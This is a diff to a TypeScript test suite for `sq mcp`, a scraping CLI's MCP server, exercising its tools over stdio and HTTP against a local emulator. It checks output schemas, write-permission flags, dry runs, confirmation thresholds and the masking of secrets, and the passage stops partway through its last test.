@@ -1,11 +1,17 @@
-// `sq mcp` as an agent runs it: the built bin/sq.js spawned over stdio, driven by the MCP SDK's own Client (and, at
-// the end, by the MCP Inspector's CLI: a client nobody here wrote), against the emulator on loopback.
-import { spawn } from 'node:child_process';
-import { resolve } from 'node:path';
-import { afterEach, describe, expect, it } from 'vitest';
+// `sq mcp` as an agent runs it: the built bin/sq.js spawned over stdio, and served over Streamable HTTP, driven by the
+// MCP SDK's own Client (and, at the end, by the MCP Inspector's CLI: a client nobody here wrote), against the emulator
+// on loopback. Every answer is checked against its tool's outputSchema with Ajv.
+import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
+import { createServer } from 'node:net';
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { afterAll, afterEach, describe, expect, it } from 'vitest';
 import { execa } from 'execa';
+import { Ajv } from 'ajv';
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
+import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
 import { useEmulator } from '../helpers/emulator.js';
 import { BIN, sq, tempConfigDir } from '../helpers/cli.js';
 import { DEMO_SQUIDS } from '../../src/emulator/seed.js';
@@ -13,255 +19,583 @@ import { DEMO_SQUIDS } from '../../src/emulator/seed.js';
 const emu = useEmulator({ each: 'reset' });
 
 const READ_TOOLS = [
-  'balance', 'billing_auto_reset_get', 'crawlers_list', 'crawlers_params', 'delivery_show', 'plan', 'results_list', 'runs_credits',
-  'runs_get', 'runs_list', 'runs_stats', 'squids_get', 'squids_list', 'status', 'tasks_list',
+  'accounts_get', 'accounts_list', 'balance', 'billing_auto_reset_get', 'crawlers_get', 'crawlers_params', 'crawlers_search', 'delivery_show',
+  'plan', 'results_list', 'results_url', 'runs_credits', 'runs_get', 'runs_list', 'runs_stats', 'runs_wait', 'squids_estimate', 'squids_get',
+  'squids_list', 'status', 'tasks_list', 'whoami',
 ];
+const WRITE_TOOLS = [
+  'apply', 'delivery_apply', 'delivery_email', 'delivery_s3', 'delivery_sftp', 'delivery_sheet', 'delivery_test', 'delivery_webhook', 'go', 'runs_abort',
+  'runs_start', 'squids_attach_account', 'squids_create', 'squids_deactivate', 'squids_empty', 'squids_update', 'tasks_add',
+];
+const SECRET = 'FAKE-SECRET-3b7Kq9ZxW2';
+
+const dirs: string[] = [];
+afterAll(() => {
+  for (const d of dirs) rmSync(d, { recursive: true, force: true });
+});
+function tempDir(): string {
+  const d = mkdtempSync(join(tmpdir(), 'sq-mcp-'));
+  dirs.push(d);
+  return d;
+}
 
 function serverEnv(extra: Record<string, string> = {}): Record<string, string> {
   return { PATH: process.env.PATH ?? '', SQ_CONFIG_DIR: tempConfigDir(), SQ_CACHE_DIR: process.env.SQ_CACHE_DIR ?? '', NO_COLOR: '1', ...emu.env(), ...extra };
 }
 
+type Tool = { name: string; outputSchema?: object; inputSchema: { properties?: Record<string, unknown> }; annotations?: Record<string, unknown> };
+type CallResult = { content: Array<{ type: string; text: string }>; structuredContent?: Record<string, unknown>; isError?: boolean };
+
+/** A connected client, every answer checked against its tool's outputSchema, and the bytes of all answers counted. */
+class Agent {
+  bytes = 0;
+  answers: string[] = [];
+  private validators = new Map<string, ReturnType<Ajv['compile']>>();
+  constructor(readonly client: Client, readonly stderr: () => string = () => '') {}
+  async tools(): Promise<Tool[]> {
+    const { tools } = await this.client.listTools();
+    const ajv = new Ajv({ strict: false });
+    for (const t of tools as Tool[]) if (t.outputSchema) this.validators.set(t.name, ajv.compile(t.outputSchema));
+    return tools as Tool[];
+  }
+  async call(name: string, args: Record<string, unknown> = {}): Promise<CallResult> {
+    if (!this.validators.size) await this.tools();
+    const r = (await this.client.callTool({ name, arguments: args })) as CallResult;
+    const text = JSON.stringify(r);
+    this.bytes += Buffer.byteLength(text);
+    this.answers.push(text);
+    // One text part per answer, and (on success) the same object as structuredContent, valid against the outputSchema.
+    expect(r.content, name).toHaveLength(1);
+    if (!r.isError) {
+      expect(JSON.parse(r.content[0].text), name).toEqual(r.structuredContent);
+      const validate = this.validators.get(name);
+      expect(validate, `${name} has an outputSchema`).toBeDefined();
+      expect(validate!(r.structuredContent), `${name}: ${JSON.stringify(validate!.errors)}`).toBe(true);
+    }
+    return r;
+  }
+  async ok(name: string, args: Record<string, unknown> = {}): Promise<Record<string, any>> {
+    const r = await this.call(name, args);
+    expect(r.isError, `${name}: ${r.content[0]?.text}`).toBeFalsy();
+    return r.structuredContent as Record<string, any>;
+  }
+}
+
 const clients: Client[] = [];
+const children: ChildProcessWithoutNullStreams[] = [];
 afterEach(async () => {
   await Promise.all(clients.splice(0).map((c) => c.close()));
+  for (const c of children.splice(0)) if (c.exitCode === null) c.kill('SIGKILL');
 });
 
-async function connect(args: string[] = [], env = serverEnv()): Promise<{ client: Client; stderr: () => string }> {
+async function stdio(args: string[] = [], env = serverEnv()): Promise<Agent> {
   const transport = new StdioClientTransport({ command: process.execPath, args: [BIN, 'mcp', ...args], env, stderr: 'pipe' });
   let err = '';
   transport.stderr?.on('data', (d) => (err += String(d)));
   const client = new Client({ name: 'sq-test', version: '1' });
   await client.connect(transport);
   clients.push(client);
-  return { client, stderr: () => err };
+  return new Agent(client, () => err);
 }
 
-type CallResult = { content: Array<{ type: string; text: string }>; structuredContent?: Record<string, unknown>; isError?: boolean };
-const call = async (client: Client, name: string, args: Record<string, unknown> = {}) => (await client.callTool({ name, arguments: args })) as CallResult;
-const textOf = (c: object) => String((c as { text?: unknown }).text);
-const json = (args: string[]) => sq([...args, '--json'], { env: emu.env() }).then((r) => JSON.parse(r.stdout) as unknown);
+/** `sq mcp --http 127.0.0.1:0 …`: its first stdout line, {url, token}. */
+async function httpServer(args: string[] = [], env = serverEnv()): Promise<{ url: string; token: string; child: ChildProcessWithoutNullStreams; stderr: () => string }> {
+  const child = spawn(process.execPath, [BIN, 'mcp', '--http', '127.0.0.1:0', ...args], { env, stdio: ['pipe', 'pipe', 'pipe'] });
+  children.push(child);
+  let out = '';
+  let err = '';
+  child.stderr.on('data', (d) => (err += String(d)));
+  const line = await new Promise<string>((ok, fail) => {
+    child.stdout.on('data', (d) => {
+      out += String(d);
+      if (out.includes('\n')) ok(out.split('\n')[0]);
+    });
+    child.once('close', () => fail(new Error(`sq mcp --http exited: ${err}`)));
+  });
+  return { ...(JSON.parse(line) as { url: string; token: string }), child, stderr: () => err };
+}
 
-describe('sq mcp over stdio, with the SDK client', () => {
-  it('lists the read tools only by default, typed and annotated read-only', async () => {
-    const { client } = await connect();
-    const { tools } = await client.listTools();
+async function http(args: string[] = [], env = serverEnv()): Promise<Agent & { server: Awaited<ReturnType<typeof httpServer>> }> {
+  const server = await httpServer(args, env);
+  const client = new Client({ name: 'sq-test-http', version: '1' });
+  await client.connect(new StreamableHTTPClientTransport(new URL(server.url), { requestInit: { headers: { authorization: `Bearer ${server.token}` } } }));
+  clients.push(client);
+  return Object.assign(new Agent(client, server.stderr), { server });
+}
+
+const json = (args: string[]) => sq([...args, '--json'], { env: emu.env() }).then((r) => JSON.parse(r.stdout) as any);
+
+/**
+ * The scripted session of an agent from nothing (issue 31): search a crawler, read it, create a squid, add tasks,
+ * estimate, go refused then confirmed, wait (capped), results with fields, results URL. Returns the answers' bytes.
+ */
+async function session(agent: Agent): Promise<void> {
+  const found = await agent.ok('crawlers_search', { query: 'google maps search' });
+  expect(found.exact).toBe(true);
+  const crawler = found.items.find((c: { slug: string }) => c.slug === 'google-maps-search-export');
+  expect(crawler).toBeDefined();
+  expect(JSON.stringify(found)).not.toContain('icon');
+
+  const got = await agent.ok('crawlers_get', { crawler: crawler.slug });
+  const levels = new Set(got.inputs.map((i: { level: string }) => i.level));
+  expect([...levels]).toEqual(expect.arrayContaining(['task', 'squid']));
+  expect(got.outputs).toContain('phone');
+
+  const squid = await agent.ok('squids_create', { crawler: crawler.id, name: 'MCP cafés', params: { max_results: 5 } });
+  expect(squid).toMatchObject({ name: 'MCP cafés', params: { max_results: 5 } });
+  expect(squid).not.toHaveProperty('download_url');
+  const added = await agent.ok('tasks_add', { squid: squid.id, values: ['https://www.google.com/maps/search/cafe+berlin', 'https://www.google.com/maps/search/cafe+paris'] });
+  expect(JSON.stringify(added)).toContain('2');
+
+  const estimate = await agent.ok('squids_estimate', { squid: squid.id });
+  expect(estimate.total_credits).toBeGreaterThan(0);
+  expect(estimate.services[0]).toMatchObject({ name: expect.any(String), credits: expect.any(Number) });
+
+  await emu.clearRequests();
+  const go = { crawler: crawler.slug, tasks: ['https://www.google.com/maps/search/bakery+lyon'], params: { max_results: 5 }, idempotency_key: 'agent-1' };
+  const first = await agent.ok('go', go);
+  // Refused above --confirm-above (0 here): the estimate, and no run started.
+  expect(first).toMatchObject({ needs_confirmation: true, idempotency_key: 'agent-1' });
+  expect(first.estimate.total_credits).toBeGreaterThan(0);
+  expect((await emu.requests('POST')).filter((r) => r.path === '/v1/runs')).toEqual([]);
+  const confirmed = await agent.ok('go', { ...go, confirm: true });
+  const runId: string = confirmed.run.id;
+  expect(confirmed.squid).toBe(first.squid);
+  // A retry with the same key: the same run, never a second one.
+  const again = await agent.ok('go', { ...go, confirm: true });
+  expect(again.run.id).toBe(runId);
+  expect((await emu.requests('POST')).filter((r) => r.path === '/v1/runs')).toHaveLength(1);
+  expect((await emu.requests('POST')).filter((r) => r.path === '/v1/squids')).toHaveLength(1);
+
+  // The wait is capped: the run as it stands, still_running: true, while the emulator's clock stands still.
+  const waited = await agent.ok('runs_wait', { run: runId, wait_seconds: 1 });
+  expect(waited).toMatchObject({ id: runId, still_running: true });
+  expect((await agent.call('runs_wait', { run: runId, wait_seconds: 51 })).isError).toBe(true);
+  await emu.advance(3_600_000);
+  const done = await agent.ok('runs_wait', { run: runId, wait_seconds: 20 });
+  expect(done.still_running).toBeUndefined();
+  expect(done.status).toBe('done');
+
+  const page = await agent.ok('results_list', { run: runId, fields: ['name', 'phone'], limit: 2 });
+  expect(page.items.length).toBeGreaterThan(0);
+  for (const row of page.items) expect(Object.keys(row).every((k) => ['name', 'phone'].includes(k))).toBe(true);
+  if (page.items.length === 2) expect(typeof page.next_cursor).toBe('string');
+
+  const url = await agent.ok('results_url', { run: runId });
+  expect(url.url).toMatch(/Signature=(?!\*)/);
+  const file = await fetch(url.url);
+  expect(file.status).toBe(200);
+  // The signed URL is the user's own: never in the server's -v trace.
+  expect(agent.stderr()).toContain('/download');
+  expect(agent.stderr()).not.toContain(new URL(url.url).searchParams.get('Signature'));
+}
+
+describe('an agent session from nothing, with the SDK client', () => {
+  for (const transport of ['stdio', 'http'] as const) {
+    it(`over ${transport}: search, read, create, add tasks, estimate, go refused then confirmed, wait capped, results, URL`, async () => {
+      const args = ['--allow-writes', '--confirm-above', '0', '-v'];
+      const agent = transport === 'stdio' ? await stdio(args) : await http(args);
+      await session(agent);
+    });
+  }
+});
+
+describe('tools: names, annotations, schemas', () => {
+  it('read-only by default: the read tools, each with an outputSchema and openWorldHint (they call the API)', async () => {
+    const agent = await stdio();
+    const tools = await agent.tools();
     expect(tools.map((t) => t.name).sort()).toEqual(READ_TOOLS);
     for (const t of tools) {
-      expect(t.annotations?.readOnlyHint, t.name).toBe(true);
-      expect(t.inputSchema.type).toBe('object');
+      expect(t.annotations, t.name).toMatchObject({ readOnlyHint: true, openWorldHint: true });
+      expect(t.outputSchema, t.name).toBeDefined();
     }
-    const results = tools.find((t) => t.name === 'results_list')!;
-    expect(Object.keys(results.inputSchema.properties ?? {})).toEqual(expect.arrayContaining(['squid', 'run', 'limit', 'cursor']));
-    expect(results.outputSchema?.properties).toHaveProperty('next_cursor');
   });
 
-  it('a call returns what the verb prints with --json, as text and structured content', async () => {
-    const { client } = await connect();
-    const r = await call(client, 'squids_list', { limit: 3 });
-    expect(r.isError).toBeFalsy();
-    const expected = await json(['squids', 'list', '--limit', '3']);
-    expect(JSON.parse(r.content[0].text)).toEqual(expected);
-    expect(r.structuredContent).toEqual({ items: expected });
-
-    const get = await call(client, 'squids_get', { squid: DEMO_SQUIDS.paris });
-    expect(get.structuredContent).toEqual(await json(['squids', 'get', DEMO_SQUIDS.paris]));
-    const runs = (await json(['runs', 'list', '--squid', DEMO_SQUIDS.paris])) as Array<{ id: string }>;
-    const credits = await call(client, 'runs_credits', { run: runs[0].id.slice(0, 8) });
-    expect(credits.structuredContent).toEqual(await json(['runs', 'credits', runs[0].id]));
-    expect(credits.structuredContent).toHaveProperty('total_credits');
+  it('--allow-writes adds the writes (not deletes and billing); =all and =LIST decide those', async () => {
+    const names = (await (await stdio(['--allow-writes'])).tools()).map((t) => t.name).sort();
+    expect(names).toEqual([...READ_TOOLS, ...WRITE_TOOLS].sort());
+    const all = (await (await stdio(['--allow-writes=all'])).tools()).map((t) => t.name);
+    expect(all).toEqual(expect.arrayContaining(['tasks_delete', 'squids_delete', 'billing_auto_reset_set']));
+    const listed = (await (await stdio(['--allow-writes=tasks_delete,go'])).tools()).map((t) => t.name);
+    expect(listed.filter((n) => !READ_TOOLS.includes(n)).sort()).toEqual(['go', 'tasks_delete']);
   });
 
-  it('results_list pages with a cursor, at most 100 records a call', async () => {
-    const { client } = await connect();
-    const first = await call(client, 'results_list', { squid: DEMO_SQUIDS.paris, limit: 2 });
-    expect(first.structuredContent?.items).toEqual(await json(['results', 'list', '--squid', DEMO_SQUIDS.paris, '--limit', '2', '--page', '1']));
-    const cursor = first.structuredContent?.next_cursor;
-    expect(typeof cursor).toBe('string');
-    const second = await call(client, 'results_list', { squid: DEMO_SQUIDS.paris, cursor });
-    expect(second.structuredContent?.items).toEqual(await json(['results', 'list', '--squid', DEMO_SQUIDS.paris, '--limit', '2', '--page', '2']));
-    const all = (await json(['results', 'list', '--squid', DEMO_SQUIDS.paris, '--all'])) as unknown[];
-    // The last page has no cursor.
-    let page: CallResult = second;
-    let seen = 4;
-    while (typeof page.structuredContent?.next_cursor === 'string') {
-      page = await call(client, 'results_list', { squid: DEMO_SQUIDS.paris, cursor: page.structuredContent.next_cursor });
-      seen += ((page.structuredContent?.items ?? []) as unknown[]).length;
+  it('every tool answers structuredContent valid against its outputSchema (writes as dry runs)', async () => {
+    const agent = await stdio(['--allow-writes=all', '--secret-env', 'SFTP_PASSWORD,S3_KEY,S3_SECRET'], serverEnv({ SFTP_PASSWORD: 'pw', S3_KEY: 'k', S3_SECRET: 's' }));
+    const tools = await agent.tools();
+    const paris = DEMO_SQUIDS.paris;
+    const runs = await json(['runs', 'list', '--squid', paris]);
+    const tasks = await json(['tasks', 'list', '--squid', paris]);
+    const run = runs[0].id;
+    const doc = 'squids:\n  "Paris restaurants":\n    concurrency: 2\n';
+    const args: Record<string, Record<string, unknown>> = {
+      accounts_get: { account: 'demo_scraper' }, accounts_list: {}, balance: {}, billing_auto_reset_get: {}, crawlers_get: { crawler: 'google-maps-search-export' },
+      crawlers_params: { crawler: 'google-maps-search-export' }, crawlers_search: { query: 'amazon' }, delivery_show: { squid: paris }, plan: { document: doc },
+      results_list: { squid: paris }, results_url: { run }, runs_credits: { run }, runs_get: { run }, runs_list: {}, runs_stats: { run }, runs_wait: { run, wait_seconds: 2 },
+      squids_estimate: { squid: paris }, squids_get: { squid: paris }, squids_list: {}, status: {}, tasks_list: { squid: paris }, whoami: {},
+      apply: { document: doc }, delivery_apply: { document: 'squids:\n  "Paris restaurants":\n    email: ops@example.com\n' },
+      delivery_email: { squid: paris, email: 'ops@example.com' }, delivery_s3: { squid: paris, bucket: 'b', target_path: '', access_key_env: 'S3_KEY', secret_key_env: 'S3_SECRET' },
+      delivery_sftp: { squid: paris, host: 'sftp.example.com', username: 'u', directory: '/d', password_env: 'SFTP_PASSWORD' },
+      delivery_sheet: { squid: paris, url: 'https://docs.google.com/spreadsheets/d/x' }, delivery_test: { kind: 'webhook', url: 'https://hooks.example.com/x' },
+      delivery_webhook: { squid: paris, url: 'https://hooks.example.com/x' }, go: { crawler: 'google-maps-search-export', tasks: ['https://www.google.com/maps/search/x'] },
+      runs_abort: { run }, runs_start: { squid: paris }, squids_attach_account: { squid: paris, account: 'demo_scraper' }, squids_create: { crawler: 'google-maps-search-export' },
+      squids_deactivate: { squid: paris }, squids_empty: { squid: paris }, squids_update: { squid: paris, concurrency: 2 }, tasks_add: { squid: paris, values: ['https://x.example/1'] },
+      billing_auto_reset_set: { enabled: false }, squids_delete: { squid: paris }, tasks_delete: { task: tasks[0].id },
+    };
+    await emu.clearRequests();
+    for (const t of tools) {
+      expect(args[t.name], `arguments for ${t.name}`).toBeDefined();
+      const write = !READ_TOOLS.includes(t.name);
+      const r = await agent.call(t.name, { ...args[t.name], ...(write ? { dry_run: true } : {}) });
+      expect(r.isError, `${t.name}: ${r.content[0].text}`).toBeFalsy();
     }
-    expect(seen).toBe(all.length);
-    expect((await call(client, 'results_list', { squid: DEMO_SQUIDS.paris, limit: 101 })).isError).toBe(true);
-    const bad = await call(client, 'results_list', { squid: DEMO_SQUIDS.paris, cursor: 'nope' });
-    expect(bad.isError).toBe(true);
-    expect(bad.content[0].text).toMatch(/^USAGE \(exit 2\): results_list: "cursor" is not one/);
+    // Nothing written: reads, and the estimate (a POST that changes nothing).
+    expect((await emu.requests()).filter((r) => r.method !== 'GET' && r.path !== '/v1/squid/estimate')).toEqual([]);
+  });
+
+  it('lists: 20 rows by default, cursor in and next_cursor out, fields; no icons or empty fields', async () => {
+    const agent = await stdio();
+    const first = await agent.ok('results_list', { squid: DEMO_SQUIDS.paris });
+    expect(first.items).toHaveLength(20);
+    expect(typeof first.next_cursor).toBe('string');
+    const second = await agent.ok('results_list', { squid: DEMO_SQUIDS.paris, cursor: first.next_cursor });
+    expect(second.items[0]).not.toEqual(first.items[0]);
+    const all = await json(['results', 'list', '--squid', DEMO_SQUIDS.paris, '--limit', '40']);
+    expect(second.items[0].name).toBe(all[20].name);
+    const slim = await agent.ok('squids_list', { fields: ['id', 'name'], limit: 2 });
+    expect(slim.items.every((s: object) => Object.keys(s).join() === 'id,name')).toBe(true);
+    const bad = await agent.call('tasks_list', { squid: DEMO_SQUIDS.paris, cursor: 'nope' });
+    expect(bad.content[0].text).toMatch(/^USAGE \(exit 2\): tasks_list: "cursor" is not one/);
+    const text = agent.answers.join('');
+    expect(text).not.toMatch(/"icon"|:null|:""|:\[\]|:\{\}/);
   });
 
   it('an error is a tool error with the CLI\'s message and its exit-code name; the server stays up', async () => {
-    const { client } = await connect();
-    const missing = await call(client, 'squids_get', { squid: 'no such squid' });
+    const agent = await stdio();
+    const missing = await agent.call('squids_get', { squid: 'no such squid' });
     expect(missing.isError).toBe(true);
     expect(missing.content[0].text).toMatch(/^NOT_FOUND \(exit 3\): no squid matches "no such squid"/);
-    const usage = await call(client, 'squids_list', { limit: 500, page: 2 });
-    expect(usage.isError).toBe(true);
-    expect(usage.content[0].text).toMatch(/^USAGE \(exit 2\): .*--limit/);
-    const plan = await call(client, 'plan', {});
-    expect(plan.content[0].text).toBe('USAGE (exit 2): plan: give exactly one of "file" (a path) and "yaml" (the content inline)');
-    expect((await call(client, 'balance')).isError).toBeFalsy();
-
-    const { client: noKey } = await connect([], serverEnv({ SQ_TOKEN: '' }));
-    const auth = await call(noKey, 'balance');
-    expect(auth.isError).toBe(true);
-    expect(auth.content[0].text).toMatch(/^AUTH \(exit 4\): no API key/);
+    expect(missing.structuredContent).toBeUndefined();
+    expect((await agent.call('balance')).isError).toBeFalsy();
   });
 
   it('read-only by default: a write tool is refused, naming --allow-writes, and nothing is sent', async () => {
-    const { client } = await connect();
+    const agent = await stdio();
     await emu.clearRequests();
-    const r = await call(client, 'runs_start', { squid: DEMO_SQUIDS.paris });
+    const r = await agent.client.callTool({ name: 'runs_start', arguments: { squid: DEMO_SQUIDS.paris } }) as CallResult;
     expect(r.isError).toBe(true);
-    expect(r.content[0].text).toContain('runs_start is a write tool');
     expect(r.content[0].text).toContain('start it with `sq mcp --allow-writes`');
-    const del = await call(client, 'tasks_delete', { task: 'abcd' });
-    // Every command the message quotes is whole and runnable between its backticks.
-    expect(del.content[0].text).toContain('`sq mcp --allow-writes=all`');
+    const del = await agent.client.callTool({ name: 'tasks_delete', arguments: { task: 'abcd' } }) as CallResult;
     expect(del.content[0].text).toContain('`sq mcp --allow-writes=tasks_delete`');
-    for (const quoted of del.content[0].text.match(/`[^`]*`/g) ?? []) expect(quoted).toMatch(/^`sq mcp --allow-writes=[a-z_]+`$/);
-    expect(await emu.requests('POST')).toEqual([]);
-    expect(await emu.requests('DELETE')).toEqual([]);
-  });
-
-  it('--allow-writes serves the writes (annotated) but not deletes and billing; =all and a list decide those', async () => {
-    const { client } = await connect(['--allow-writes']);
-    const tools = (await client.listTools()).tools;
-    const byName = new Map(tools.map((t) => [t.name, t]));
-    for (const n of ['runs_start', 'runs_abort', 'tasks_add', 'squids_update', 'delivery_webhook', 'delivery_sftp', 'apply']) expect(byName.has(n), n).toBe(true);
-    expect(byName.has('tasks_delete')).toBe(false);
-    expect(byName.has('billing_auto_reset_set')).toBe(false);
-    expect(byName.get('tasks_add')!.annotations).toMatchObject({ readOnlyHint: false, destructiveHint: false });
-    expect(byName.get('runs_start')!.annotations).toMatchObject({ readOnlyHint: false, destructiveHint: true });
-    expect(byName.get('tasks_add')!.inputSchema.properties).toHaveProperty('dry_run');
-
-    const all = (await (await connect(['--allow-writes=all'])).client.listTools()).tools.map((t) => t.name);
-    expect(all).toEqual(expect.arrayContaining(['tasks_delete', 'squids_delete', 'billing_auto_reset_set', 'runs_start']));
-    const listed = (await (await connect(['--allow-writes=tasks_delete,runs_start'])).client.listTools()).tools.map((t) => t.name);
-    expect(listed.filter((n) => !READ_TOOLS.includes(n)).sort()).toEqual(['runs_start', 'tasks_delete']);
+    expect((await emu.requests()).filter((q) => q.method !== 'GET')).toEqual([]);
   });
 
   it('--allow-writes with an unknown tool is exit 2 naming the allowed ones, before serving', async () => {
     const r = await execa(process.execPath, [BIN, 'mcp', '--allow-writes=runs_strat'], { env: serverEnv(), extendEnv: false, reject: false, input: '' });
     expect(r.exitCode).toBe(2);
     expect(r.stderr).toContain('--allow-writes: unknown write tool "runs_strat"');
-    expect(r.stderr).toContain('runs_start');
     expect(r.stdout).toBe('');
   });
 
-  it('dry_run returns the planned request and sends nothing; without it the write is sent', async () => {
-    const { client } = await connect(['--allow-writes']);
-    await emu.clearRequests();
-    const id = emu.squidId(DEMO_SQUIDS.paris);
-    const plan = await call(client, 'squids_update', { squid: DEMO_SQUIDS.paris, concurrency: 3, params: { max_results: 50 }, dry_run: true });
-    expect(plan.isError, plan.content[0]?.text).toBeFalsy();
-    expect(plan.structuredContent).toMatchObject({ dry_run: true, requests: [{ method: 'POST', path: `/v1/squids/${id}`, body: { concurrency: 3, params: { max_results: 50 } } }] });
-    expect(await emu.requests('POST')).toEqual([]);
-
-    const added = await call(client, 'tasks_add', { squid: DEMO_SQUIDS.paris, values: ['https://www.google.com/maps/search/mcp+test'] });
-    expect(added.isError).toBeFalsy();
-    const posts = await emu.requests('POST');
-    expect(posts.map((p) => p.path)).toEqual(['/v1/tasks']);
-    expect(JSON.stringify(posts[0].body)).toContain('mcp+test');
-  });
-
-  it('with --allow-writes=all, a delete and the billing reset plan their requests too (the verb\'s --yes given by the server)', async () => {
-    const { client } = await connect(['--allow-writes=all']);
-    const runs = (await json(['runs', 'list', '--squid', DEMO_SQUIDS.paris])) as Array<{ id: string }>;
-    const tasks = (await json(['tasks', 'list', '--squid', DEMO_SQUIDS.paris])) as Array<{ id: string }>;
-    await emu.clearRequests();
-    const billing = await call(client, 'billing_auto_reset_set', { enabled: true, threshold: 90, dry_run: true });
-    expect(billing.isError, billing.content[0]?.text).toBeFalsy();
-    expect(billing.structuredContent).toMatchObject({ dry_run: true, requests: [{ body: expect.objectContaining({ enabled: true, threshold_pct: 90 }) }] });
-    const del = await call(client, 'tasks_delete', { task: tasks[0].id, dry_run: true });
-    expect(del.structuredContent).toMatchObject({ dry_run: true, requests: [{ method: 'DELETE', path: expect.stringContaining(tasks[0].id) }] });
-    const abort = await call(client, 'runs_abort', { run: runs[0].id, dry_run: true });
-    expect(abort.isError, abort.content[0]?.text).toBeFalsy();
-    expect(abort.structuredContent).toMatchObject({ dry_run: true, requests: [{ path: expect.stringContaining(runs[0].id) }] });
-    expect((await emu.requests()).filter((r) => r.method !== 'GET')).toEqual([]);
-  });
-
-  it('secrets are masked in tool results as on stdout', async () => {
-    const token = 'Zq81kLmN0pQrStUvWxYz42';
-    const set = await sq(['delivery', 'webhook', '--squid', DEMO_SQUIDS.paris, '--url', `https://ci.example.com/hook?token=${token}`], { env: emu.env() });
-    expect(set.code).toBe(0);
-    const { client } = await connect(['--allow-writes']);
-    const shown = await call(client, 'delivery_show', { squid: DEMO_SQUIDS.paris });
-    expect(shown.isError).toBeFalsy();
-    expect(JSON.stringify(shown)).toContain('token=********');
-    expect(JSON.stringify(shown)).not.toContain(token);
-    expect(shown.structuredContent).toEqual(await json(['delivery', 'show', '--squid', DEMO_SQUIDS.paris]));
-    const planned = await call(client, 'delivery_webhook', { squid: DEMO_SQUIDS.paris, url: `https://ci.example.com/hook?token=${token}`, dry_run: true });
-    expect(JSON.stringify(planned)).not.toContain(token);
-    expect(JSON.stringify(planned)).toContain('token=********');
-  });
-
-  it('resources: sq://squids/{id} and sq://runs/{id}, listed and read', async () => {
-    const { client } = await connect();
-    const { resources } = await client.listResources();
-    const id = emu.squidId(DEMO_SQUIDS.paris);
-    expect(resources).toContainEqual(expect.objectContaining({ uri: `sq://squids/${id}`, name: DEMO_SQUIDS.paris }));
-    expect(resources.some((r) => r.uri.startsWith('sq://runs/'))).toBe(true);
-    const squid = await client.readResource({ uri: `sq://squids/${id}` });
-    expect(JSON.parse(textOf(squid.contents[0]))).toEqual(await json(['squids', 'get', id]));
-    const run = resources.find((r) => r.uri.startsWith('sq://runs/'))!;
-    const read = await client.readResource({ uri: run.uri });
-    expect(JSON.parse(textOf(read.contents[0]))).toEqual(await json(['runs', 'get', run.uri.slice('sq://runs/'.length)]));
-    await expect(client.readResource({ uri: 'sq://squids/nope' })).rejects.toThrow(/NOT_FOUND \(exit 3\)/);
-  });
-});
-
-describe('sq mcp on the wire', () => {
-  it('a malformed message gets a JSON-RPC error, the server stays up, and stdout holds protocol messages only', async () => {
-    const child = spawn(process.execPath, [BIN, 'mcp'], { env: serverEnv(), stdio: ['pipe', 'pipe', 'pipe'] });
-    let out = '';
-    child.stdout.on('data', (d) => (out += String(d)));
-    const lines = () => out.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id?: unknown; error?: { code: number }; result?: unknown; jsonrpc: string });
-    const until = async (ok: () => boolean) => {
-      for (let i = 0; i < 200 && !ok(); i++) await new Promise((r) => setTimeout(r, 50));
-    };
-    try {
-      child.stdin.write('{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}\n');
-      await until(() => lines().length >= 1);
-      child.stdin.write('{"jsonrpc":"2.0","method":"notifications/initialized"}\n');
-      child.stdin.write('this is not json\n');
-      child.stdin.write('{"hello":"world"}\n');
-      // JSON with an id but no method: the error carries that id, or the client would wait for answer 7 forever.
-      child.stdin.write('{"jsonrpc":"2.0","id":7}\n');
-      child.stdin.write('{"id":"é-8","method":"tools/list"}\n');
-      child.stdin.write('{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"balance","arguments":{}}}\n');
-      await until(() => lines().some((l) => l.id === 2));
-      const all = lines();
-      expect(all.every((l) => l.jsonrpc === '2.0')).toBe(true);
-      const errors = all.filter((l) => l.error).map((l) => [l.id, l.error!.code]);
-      expect(errors).toHaveLength(4); // in any order: JSON-RPC answers need not follow the requests' order
-      expect(errors).toEqual(expect.arrayContaining([[null, -32700], [null, -32600], [7, -32600], ['é-8', -32600]]));
-      expect(all.find((l) => l.id === 2)?.result).toMatchObject({ structuredContent: { name: expect.any(String) } });
-    } finally {
-      child.stdin.end();
-      await new Promise((r) => child.once('close', r));
+  it('bad flags are exit 2 naming the flag, before serving', async () => {
+    for (const [args, flag] of [
+      [['--root', '/nonexistent/dir'], '--root'],
+      [['--secret-env', 'NOT-A-NAME'], '--secret-env'],
+      [['--confirm-above', '-1'], '--confirm-above'],
+      [['--max-message-bytes', '10'], '--max-message-bytes'],
+      [['--http', 'host:port'], '--http'],
+      [['--token-env', 'MCP_TOKEN'], '--token-env: only with --http'],
+      [['--http', '127.0.0.1:0', '--token-env', 'UNSET_TOKEN_VAR'], '--token-env: environment variable UNSET_TOKEN_VAR is not set'],
+    ] as const) {
+      const r = await execa(process.execPath, [BIN, 'mcp', ...args], { env: serverEnv(), extendEnv: false, reject: false, input: '' });
+      expect(r.exitCode, args.join(' ')).toBe(2);
+      expect(r.stderr).toContain(flag);
+      expect(r.stdout).toBe('');
     }
-    expect(child.exitCode).toBe(0);
+  });
+
+  it('squids_attach_account adds the account and keeps the linked ones', async () => {
+    const agent = await stdio(['--allow-writes']);
+    const accounts = await json(['accounts', 'list']);
+    const [a, b] = accounts as Array<{ id: string; username: string }>;
+    const squid = DEMO_SQUIDS.paris;
+    await agent.ok('squids_attach_account', { squid, account: a.id });
+    const r = await agent.ok('squids_attach_account', { squid, account: b.username });
+    expect(r.accounts.map((x: { id?: string } | string) => (typeof x === 'string' ? x : x.id)).sort()).toEqual([a.id, b.id].sort());
+    const listed = await agent.ok('accounts_get', { account: a.id });
+    expect(JSON.stringify(listed)).not.toMatch(/cookie|password/i);
+  });
+
+  it('runs_start answers needs_confirmation above --confirm-above and starts nothing; confirm: true starts it; a key replays it', async () => {
